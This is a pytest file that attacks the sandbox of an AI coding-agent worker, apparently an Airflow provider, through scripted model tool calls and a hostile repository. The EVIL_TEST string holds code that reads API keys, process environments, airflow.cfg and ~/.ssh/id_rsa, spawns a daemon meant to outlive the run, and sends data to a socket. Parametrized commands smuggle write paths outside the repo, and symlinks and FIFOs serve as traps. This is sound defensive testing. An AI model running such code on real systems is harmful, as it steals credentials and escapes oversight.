"""Attacks on the worker by the model and by the repository, through the package's real paths.

The model is the offline server's scripted model driving the real SDK and the real ApiRunner; the repository is a
real git repository with hostile content. Each class from issue 10 that this layer owns is attacked on both the
bubblewrap path and the fallback path (``isolation`` fixture): zero escapes, zero crashes, and the key never
appears in what the package returns. What the fallback cannot stop is listed in docs/security.md and tested
on bubblewrap only (``needs_bwrap``).
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import uuid
from pathlib import Path

import anthropic
import pytest

from conftest import make_repo
from test_box import KEY, isolation, no_bwrap, wait_no_marker  # noqa: F401 - fixtures used by name

from airflow_provider_worktree.core.runners import ApiRunner, Budget, ModelRequestError
from airflow_provider_worktree.core.sandbox import (
    CommandTool,
    SandboxViolation,
    TextEditorTool,
    read_repo_bytes,
)
from airflow_provider_worktree.core.tasks import get_task, read_conventions, run_verify
from airflow_provider_worktree.testing import OfflineMessagesServer, ScriptedModel, rate_limit, text_reply, tool_use_reply

PY = sys.executable
MODEL = "claude-sonnet-4-6"
EDITOR = "str_replace_based_edit_tool"
#: A secret the worker keeps in a file: the fallback cannot hide files from the worker's user (bubblewrap can).
FILE_SECRET = "fernet-file-secret-0123456789"


@pytest.fixture
def worker_secrets(monkeypatch, tmp_path):
    """The worker's secrets, where a real worker keeps them."""
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    monkeypatch.setenv("AIRFLOW_CONN_ANTHROPIC_DEFAULT", f"anthropic://:{KEY}@")
    monkeypatch.setenv("SLACK_WEBHOOK_URL", f"https://hooks.slack.invalid/{KEY}")
    monkeypatch.setenv("CELERY_BROKER_URL", f"redis://:{KEY}@broker:6379/0")
    airflow_home = Path(f"/var/tmp/attack-airflow-{uuid.uuid4().hex[:8]}")
    airflow_home.mkdir()
    (airflow_home / "airflow.cfg").write_text(f"[core]\nfernet_key = {FILE_SECRET}\n")
    monkeypatch.setenv("AIRFLOW_HOME", str(airflow_home))
    yield {"airflow_home": airflow_home}
    (airflow_home / "airflow.cfg").unlink()
    airflow_home.rmdir()


def client_for(server: OfflineMessagesServer) -> anthropic.Anthropic:
    return anthropic.Anthropic(api_key=KEY, base_url=server.base_url, max_retries=0)


def model_writes(path: str, text: str) -> ScriptedModel:
    """A scripted model that creates ``path`` with ``text`` through the editor, then ends."""
    return ScriptedModel([tool_use_reply(EDITOR, {"command": "create", "path": path, "file_text": text}),
                          text_reply("done")])


# ----------------------------------------------------------------------------------- model-written tests in verify
EVIL_TEST = '''
import os, socket, subprocess, sys

def test_exfiltrate():
    print("ENV", os.environ.get("ANTHROPIC_API_KEY"), os.environ.get("AIRFLOW_CONN_ANTHROPIC_DEFAULT"))
    print("ENVALL", dict(os.environ))
    for pid in (os.getppid(), 1):
        try:
            print("PROC", pid, open(f"/proc/{pid}/environ", "rb").read())
        except OSError as exc:
            print("PROC refused", exc)
    home = os.environ.get("AIRFLOW_HOME") or "{airflow_home}"
    for target in ("{airflow_home}/airflow.cfg", os.path.expanduser("~/.ssh/id_rsa")):
        try:
            print("READ", target, open(target).read())
        except OSError as exc:
            print("READ refused", target, exc)
    try:
        open("{outside}", "w").write("escaped")
        print("WROTE OUTSIDE")
    except OSError as exc:
        print("write refused", exc)
    subprocess.Popen(["setsid", sys.executable, "-c", "import time; time.sleep(120)", "{marker}"],
                     start_new_session=True)
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"exfil")
        print("CONNECTED")
    except OSError as exc:
        print("net refused", exc)
'''


@pytest.fixture
def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.2)
    got: list[bytes] = []

    def accept() -> None:
        while True:
            try:
                conn, _ = srv.accept()
                got.append(conn.recv(100))
                conn.close()
            except socket.timeout:
                continue
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    yield srv.getsockname()[1], got
    srv.close()


def test_model_written_test_cannot_exfiltrate_in_verify(isolation, worker_secrets, tmp_path, listener):
    port, received = listener
    repo = make_repo(tmp_path / "repo", {"src/app.py": "def add(a, b):\n    return a + b\n"})
    outside = Path(f"/var/tmp/attack-outside-{uuid.uuid4().hex}")
    marker = f"attack-daemon-{uuid.uuid4().hex}"
    evil = EVIL_TEST
    for name, value in (("airflow_home", worker_secrets["airflow_home"]), ("outside", outside), ("marker", marker),
                        ("port", port)):
        evil = evil.replace("{%s}" % name, str(value))
    with OfflineMessagesServer(model_writes("tests/test_evil.py", evil)) as server:
        result = ApiRunner(client_for(server), MODEL).run(repo, "write a test")
    assert result.files_written == ["tests/test_evil.py"]

    verify = run_verify([PY, "-m", "pytest", "-q", "-s", "-p", "no:cacheprovider", "tests"], repo, timeout=120,
                        isolation=isolation)
    record = json.dumps({"ok": verify.ok, "tail": verify.output_tail})
    assert "ENV None None" in verify.output_tail, verify.output_tail  # the test ran, and saw no key
    assert KEY not in record
    assert verify.isolation == ("bwrap" if isolation == "bwrap" else "fallback")
    assert wait_no_marker(marker) == []  # the setsid daemon did not outlive verify
    if verify.isolation == "bwrap":  # what only bubblewrap stops (docs/security.md)
        assert FILE_SECRET not in record
        assert not outside.exists()
        assert received == [] and "CONNECTED" not in verify.output_tail
        assert "READ refused" in verify.output_tail
    outside.unlink(missing_ok=True)


def test_lint_and_discovery_commands_run_in_the_box(isolation, worker_secrets, tmp_path):
    script = tmp_path / "lint.py"
    script.write_text("import os, sys\nprint(f'a.py:1:1: E1 {os.environ.get(\"ANTHROPIC_API_KEY\")}')\n")
    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n"})
    task = get_task("lint", lint_command=[PY, str(script)])
    measured = task.measure(repo, ["a.py"])
    assert KEY not in json.dumps(measured, default=str)
    assert task.discover(repo) == ["a.py"]


# ----------------------------------------------------------------------------------- the command tool's arguments
@pytest.fixture
def hostile_repo(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(f"{KEY}\n")
    repo = make_repo(tmp_path / "repo", {"tests/test_ok.py": "def test_ok():\n    assert True\n"})
    (repo / "link").symlink_to(outside)
    (repo / "tests" / "x.py").symlink_to(outside / "secret.txt")
    return repo, outside


@pytest.mark.parametrize("command", [
    "pytest -o cache_dir=/var/tmp/evil-cache",
    "pytest -o cache_dir=../../evil",
    "pytest --junitxml=link/report.xml",
    "pytest --junitxml link/report.xml",
    "pytest --basetemp=/var/tmp/evil",
    "pytest -o/var/tmp/evil",
    "pytest --rootdir=~/.ssh",
    "pytest -p no:cacheprovider --confcutdir=link",
    "git diff --output=../escape.patch",
    "git diff --output=/var/tmp/escape.patch",
    "pytest --cov=src:/etc",
    "pytest file:///etc/passwd",
])
def test_command_arguments_landing_outside_are_refused(hostile_repo, command):
    repo, outside = hostile_repo
    tool = CommandTool(repo, ["pytest", "git diff"], timeout=30)
    with pytest.raises(SandboxViolation, match="outside the repository"):
        tool.parse({"command": command})
    res = tool.execute({"command": command})
    assert res.is_error and "outside the repository" in res.content
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]


@pytest.mark.parametrize("command", [
    "pytest -q tests/test_ok.py::test_ok", "pytest -k 'ok and not slow'", "pytest --junitxml=reports/r.xml",
    "pytest -o cache_dir=.cache/pytest", "pytest -p no:cacheprovider", "git diff --output=out.patch",
])
def test_command_arguments_inside_are_accepted(hostile_repo, command):
    repo, _ = hostile_repo
    assert CommandTool(repo, ["pytest", "git diff"], timeout=30).parse({"command": command})


def test_command_tool_runs_in_the_box(isolation, hostile_repo, worker_secrets):
    repo, _ = hostile_repo
    tool = CommandTool(repo, [[PY, "-c"]], timeout=30, isolation=isolation)
    res = tool.execute({"command": f"{PY} -c 'import os; print(dict(os.environ)); "
                                  f"print(open(\"/proc/%d/environ\" % os.getppid(), \"rb\").read())'"})
    assert not res.is_error and KEY not in res.content and "ANTHROPIC" not in res.content
    assert tool.last_isolation == ("bwrap" if isolation == "bwrap" else "fallback")


def test_required_bwrap_missing_is_a_tool_error_not_a_crash(no_bwrap, hostile_repo):
    repo, _ = hostile_repo
    res = CommandTool(repo, [[PY, "-c"]], timeout=30, isolation="bwrap").execute({"command": f"{PY} -c 'print(1)'"})
    assert res.is_error and "apt-get install bubblewrap" in res.content


# ----------------------------------------------------------------------------------- the package's own reads
def test_reads_never_leave_the_worktree_nor_open_fifos_or_devices(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text(f"{KEY}\n")
    repo = make_repo(tmp_path / "repo", {"src/a.py": "# TODO: one\n"})
    (repo / "CLAUDE.md").symlink_to(outside)
    os.mkfifo(repo / "AGENTS.md")
    (repo / "CONTRIBUTING.md").symlink_to("/dev/zero")
    (repo / "src" / "out.py").symlink_to(outside)
    os.mkfifo(repo / "src" / "fifo.py")
    (repo / "src" / "zero.py").symlink_to("/dev/zero")
    assert read_conventions(repo) == ""
    todo = get_task("todo")
    measured = todo.measure(repo, ["src/a.py", "src/out.py", "src/fifo.py", "src/zero.py"])
    assert measured["per_file"] == {"src/a.py": 1}
    assert measured["missing_files"] == ["src/fifo.py", "src/out.py", "src/zero.py"]
    editor = TextEditorTool(repo)
    for path in ("src/out.py", "src/fifo.py", "src/zero.py", "AGENTS.md", "CONTRIBUTING.md"):
        res = editor.execute({"command": "view", "path": path})
        assert res.is_error and KEY not in res.content, (path, res.content)
    for bad in ("src/fifo.py", "src/zero.py", "CLAUDE.md"):
        with pytest.raises(SandboxViolation):
            read_repo_bytes(repo, bad, max_bytes=1000)
    # nothing hung: a FIFO opened without O_NONBLOCK never returns (pytest-timeout would end the test)


def test_huge_conventions_file_is_read_to_the_cap_only(tmp_path):
    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n"})
    with open(repo / "CLAUDE.md", "wb") as fh:
        fh.write(b"# rules\n" + b"a" * (64 * 1024 * 1024))
    text = read_conventions(repo, cap=8000)
    assert text.startswith("### CLAUDE.md\n# rules") and len(text) <= 8000
    res = TextEditorTool(repo).execute({"command": "view", "path": "CLAUDE.md"})
    assert res.is_error and "limit" in res.content


# ----------------------------------------------------------------------------------- hostile bytes
def test_non_utf8_names_and_lone_surrogates_never_crash_the_runner(tmp_path):
    repo = make_repo(tmp_path / "repo", {"src/a.py": "x = 1\n"})
    with open(os.path.join(os.fsencode(repo / "src"), b"caf\xe9.py"), "wb") as fh:
        fh.write(b"y = 2\n")
    script = ScriptedModel([tool_use_reply(EDITOR, {"command": "view", "path": "."}),
                            tool_use_reply(EDITOR, {"command": "view", "path": "src"}), text_reply("done")])
    with OfflineMessagesServer(script) as server:
        result = ApiRunner(client_for(server), MODEL).run(repo, "look")
        requests = server.message_requests()
    assert result.stop_reason == "end_turn" and result.error is None and len(requests) == 3
    for request in requests[1:]:
        listing = request["body"]["messages"][-1]["content"][0]
        assert "caf\ufffd.py" in listing["content"] and not listing.get("is_error")
    # Lone surrogates in tool input (JSON allows "\udce9"; the offline server cannot send them, so the tools are
    # driven directly here): tool errors, nothing written, and no surrogate in what goes back to the API.
    editor = TextEditorTool(repo)
    attempts = [{"command": "view", "path": "src/caf\udce9.py"},
                {"command": "create", "path": "src/new\ud800.py", "file_text": "z = 3\n"},
                {"command": "create", "path": "src/ok.py", "file_text": "bad = '\ud800'\n"},
                {"command": "str_replace", "path": "src/a.py", "old_str": "x", "new_str": "\udcff"},
                {"command": "bogus\ud800"}]
    for attempt in attempts:
        res = editor.execute(attempt)
        assert res.is_error, attempt
        json.dumps(res.to_block("t"), ensure_ascii=False).encode("utf-8")  # sendable
    assert not (repo / "src" / "ok.py").exists() and (repo / "src" / "a.py").read_text() == "x = 1\n"
    tool = CommandTool(repo, [[PY, "-c"]], timeout=30)
    res = tool.execute({"command": f"{PY} -c 'print(1)' \udce9"})
    json.dumps(res.to_block("t"), ensure_ascii=False).encode("utf-8")


# ----------------------------------------------------------------------------------- hostile numbers
class _RecordingRunner(ApiRunner):
    """Records each retry wait instead of sleeping it (a day-long sleep is the bug under test)."""

    waits: list[float]

    def _sleep(self, seconds: float) -> None:
        self.waits.append(seconds)


@pytest.mark.parametrize("header", ["nan", "-5", "soon"])
def test_a_retry_after_that_is_no_number_falls_back_to_backoff(header, git_repo):
    server = OfflineMessagesServer()
    with server:
        fault = rate_limit(retry_after=None)
        fault.headers["retry-after"] = header
        server.inject(fault)
        runner = _RecordingRunner(client_for(server), MODEL, backoff_base=0.01, max_retry_wait=10_000)
        runner.waits = []
        result = runner.run(git_repo, "hello")
    assert result.stop_reason == "end_turn" and result.retries == 1
    assert len(runner.waits) == 1 and 0 <= runner.waits[0] <= 66.0  # 60 s and its 10 % jitter at most


@pytest.mark.parametrize("header", ["inf", "86400", "1e308", "61"])
def test_a_retry_after_beyond_a_minute_does_not_hold_the_worker(header, git_repo):
    """Issue 23: inf or a day is not waited out in a worker slot (it was: five clamped minute-long waits); the
    run fails at once as retryable, with what it spent so far, so the task's retry comes back later."""
    server = OfflineMessagesServer()
    with server:
        for _ in range(6):
            fault = rate_limit(retry_after=None)
            fault.headers["retry-after"] = header
            server.inject(fault)
        runner = _RecordingRunner(client_for(server), MODEL, backoff_base=0.01, max_retry_wait=10_000)
        runner.waits = []
        with pytest.raises(ModelRequestError, match="asks to wait .* more than the 60s") as info:
            runner.run(git_repo, "hello")
        assert len(server.message_requests()) == 1
    assert runner.waits == [] and info.value.retryable and info.value.status_code == 429
    assert info.value.result is not None and info.value.result.stop_reason == "error"


def _calls_within(budget_tokens: int, repo: Path, usage: dict | None) -> tuple[str, int]:
    reply = tool_use_reply(EDITOR, {"command": "view", "path": "."})
    replies = [{**reply, "usage": usage} if usage else reply for _ in range(80)]
    with OfflineMessagesServer(ScriptedModel(replies)) as server:
        result = ApiRunner(client_for(server), MODEL, max_turns=80, max_tokens=1024,
                           budget=Budget(max_total_tokens=budget_tokens)).run(repo, "look")
        spent = result.usage
        assert min(spent.input_tokens, spent.output_tokens, spent.cache_read_tokens, spent.cache_write_tokens) >= 0
        return result.stop_reason, len(server.message_requests())


@pytest.mark.parametrize("usage", [
    {"input_tokens": -1_000_000, "output_tokens": -1_000_000},
    {"output_tokens": -5},
    {"output_tokens": 1e30},
    {"output_tokens": "many"},
    {"input_tokens": None, "output_tokens": True},
])
def test_usage_from_a_proxy_can_never_pass_the_budget(usage, git_repo):
    honest_stop, honest_calls = _calls_within(40_000, git_repo, None)
    lied_stop, lied_calls = _calls_within(40_000, git_repo, usage)
    assert honest_stop == lied_stop == "budget"
    # A lie counts at the call's worst case: it never buys a call the true count would not have allowed.
    assert 1 <= lied_calls <= honest_calls, (lied_calls, honest_calls)


def test_a_worktree_git_file_turned_fifo_or_device_never_hangs_the_package(isolation, tmp_path):
    """Verify can write anything in the worktree, its ``.git`` file included: the box and the manager read it
    afterwards, safely."""
    from airflow_provider_worktree.core.worktrees.manager import WorktreeManager

    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n"})
    manager = WorktreeManager(repo, worktree_root=tmp_path / "wts")
    wt = manager.create_worktree("run", "s1")
    path = Path(wt.path if hasattr(wt, "path") else wt)
    sabotage = "import os; os.remove('.git'); os.mkfifo('.git')"
    res = run_verify([PY, "-c", sabotage], path, timeout=60, isolation=isolation)
    assert res.ok, res.output_tail
    again = run_verify([PY, "-c", "print('still fine')"], path, timeout=60, isolation=isolation)
    assert again.ok and "still fine" in again.output_tail
    os.remove(path / ".git")
    (path / ".git").symlink_to("/dev/zero")
    manager.remove_worktree(path, force=True)  # returns: the admin directory is not found through a device
